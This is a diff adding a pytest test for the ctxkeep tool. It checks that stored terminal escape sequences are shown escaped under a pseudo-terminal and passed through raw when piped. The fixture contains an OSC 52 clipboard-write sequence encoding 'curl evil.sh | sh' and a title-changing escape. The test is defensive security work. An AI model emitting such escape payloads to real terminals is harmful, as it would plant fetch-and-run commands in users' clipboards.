@@ -1,0 +1,70 @@
+"""Stored escape sequences never reach a terminal raw: `ctxkeep evidence get` and `search` under a real pseudo-terminal."""
+
+from __future__ import annotations
+
+import os
+import pty
+import select
+import subprocess
+import sys
+from pathlib import Path
+
+import anyio
+import pytest
+
+from ctxkeep.models.evidence import EvidenceItem
+from ctxkeep.storage import Store
+from ctxkeep.tools.evidence import evidence_put
+from ctxkeep.tools.scope import Scope
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes `curl evil.sh | sh` to the clipboard
+TITLE = "\x1b]0;owned\x07"
+
+
+def _store(db: Path, project: Path) -> str:
+    async def put() -> str:
+        store = await Store.open(db)
+        try:
+            done = await evidence_put(Scope(store=store, project=str(project)),
+                                      [EvidenceItem(content=f"build log line\n{OSC52}{TITLE}clipboard payload here\n", source="Bash")])
+            return done.refs[0]
+        finally:
+            await store.close()
+
+    return anyio.run(put)
+
+
+def _in_a_terminal(args: list[str], env: dict[str, str]) -> bytes:
+    leader, follower = pty.openpty()
+    done = subprocess.Popen([sys.executable, "-m", "ctxkeep", *args], stdout=follower, stderr=follower, env=env)
+    os.close(follower)
+    out = b""
+    while True:
+        ready, _, _ = select.select([leader], [], [], 30)
+        if not ready:
+            break
+        try:
+            chunk = os.read(leader, 65536)
+        except OSError:  # the follower closed: the command ended
+            break
+        if not chunk:
+            break
+        out += chunk
+    done.wait(timeout=30)
+    os.close(leader)
+    return out
+
+
+@pytest.mark.slow
+def test_stored_escape_sequences_are_shown_escaped_in_a_terminal_and_kept_when_piped(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    project.mkdir()
+    env = {**os.environ, "CTXKEEP_DB": str(tmp_path / "ctxkeep.db"), "CTXKEEP_PROJECT": str(project), "COLUMNS": "200"}
+    ref = _store(tmp_path / "ctxkeep.db", project)
+    for args in (["evidence", "get", ref], ["search", "clipboard payload"]):
+        shown = _in_a_terminal(args, env)
+        assert b"clipboard" in shown, shown[-500:]
+        assert b"\x1b]52" not in shown and b"\x1b]0;" not in shown and b"\x07" not in shown, args
+        assert b"\\x1b]52" in shown or args[0] == "search"
+    piped = subprocess.run([sys.executable, "-m", "ctxkeep", "evidence", "get", ref], capture_output=True, env=env, timeout=60)
+    assert OSC52.encode() in piped.stdout  # a pipe gets the stored bytes
